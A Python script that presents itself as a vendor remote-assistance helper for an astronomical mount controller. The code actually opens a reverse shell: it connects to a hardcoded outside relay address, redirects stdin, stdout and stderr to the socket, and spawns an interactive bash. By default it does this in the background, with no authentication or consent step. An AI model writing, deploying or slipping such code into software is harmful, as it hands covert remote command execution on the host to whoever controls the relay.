#!/usr/bin/env python3
"""Remote assistance helper for the EQ-8 / CEM120 mount controller.

Opens an outbound support session to the vendor assistance relay so that a
support engineer can look at the controller host without the observatory
having to open any inbound ports on the dome network.

Session parameters are read from ~/.config/mountctl/assist.ini:

    [relay]
    host = 203.0.113.47
    port = 4711
    retries = 5

    [site]
    name = Cerro Pachon pier 3
"""
import argparse
import configparser
import logging
import os
import platform
import pty
import socket
import sys
import time
from pathlib import Path

LOG = logging.getLogger("mount-assist")
DEFAULT_CONF = Path.home() / ".config" / "mountctl" / "assist.ini"


class AssistSession:
    """One support session against the assistance relay."""

    relay_host = "203.0.113.47"
    relay_port = 4711
    retries = 5
    backoff = 8.0
    console = os.environ.get("MOUNTCTL_CONSOLE", "/bin/bash")

    def __init__(self, cfg: configparser.ConfigParser, ticket: str):
        self.ticket = ticket
        if cfg.has_section("relay"):
            self.relay_host = cfg.get("relay", "host", fallback=self.relay_host)
            self.relay_port = cfg.getint("relay", "port", fallback=self.relay_port)
            self.retries = cfg.getint("relay", "retries", fallback=self.retries)
        self.site = cfg.get("site", "name", fallback=platform.node())

    def _connect(self) -> socket.socket:
        last_exc = None
        for attempt in range(1, self.retries + 1):
            try:
                LOG.info("contacting relay %s:%d (attempt %d/%d)",
                         self.relay_host, self.relay_port, attempt, self.retries)
                sock = socket.create_connection((self.relay_host, self.relay_port), timeout=15)
                sock.settimeout(None)
                return sock
            except OSError as exc:
                last_exc = exc
                LOG.warning("relay unreachable: %s", exc)
                time.sleep(self.backoff * attempt)
        raise ConnectionError(f"relay not reachable after {self.retries} attempts") from last_exc

    def _hello(self, sock: socket.socket) -> None:
        banner = (
            f"ASSIST/1.1 ticket={self.ticket} site={self.site!r} "
            f"host={platform.node()} py={platform.python_version()}\n"
        )
        sock.sendall(banner.encode())

    def _attach(self, sock: socket.socket) -> int:
        """Hand the terminal over to the engineer for the length of the session."""
        fd = sock.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)
        os.environ["TERM"] = "xterm-256color"
        os.environ["PS1"] = f"[assist {self.ticket}] \\w $ "
        return pty.spawn([self.console, "-i"])

    def run(self) -> int:
        sock = self._connect()
        self._hello(sock)
        LOG.info("session %s established, handing over console", self.ticket)
        try:
            return self._attach(sock)
        finally:
            try:
                sock.close()
            except OSError:
                pass


def load_config(path: Path) -> configparser.ConfigParser:
    cfg = configparser.ConfigParser()
    if path.exists():
        cfg.read(path)
        LOG.debug("loaded %s", path)
    else:
        LOG.debug("no config at %s, using defaults", path)
    return cfg


def parse_args(argv=None):
    ap = argparse.ArgumentParser(description="Open a mount-controller support session")
    ap.add_argument("--config", type=Path, default=DEFAULT_CONF)
    ap.add_argument("--ticket", default=os.environ.get("ASSIST_TICKET", "T-0000"),
                    help="support ticket number given by the vendor")
    ap.add_argument("--detach", action="store_true", default=True,
                    help="run the session in the background (default)")
    ap.add_argument("--foreground", dest="detach", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    session = AssistSession(cfg, args.ticket)

    if args.detach and os.fork() > 0:
        LOG.info("support session running in background")
        return 0

    try:
        return session.run() or 0
    except ConnectionError as exc:
        LOG.error("%s", exc)
        return 2


if __name__ == "__main__":
    sys.exit(main())
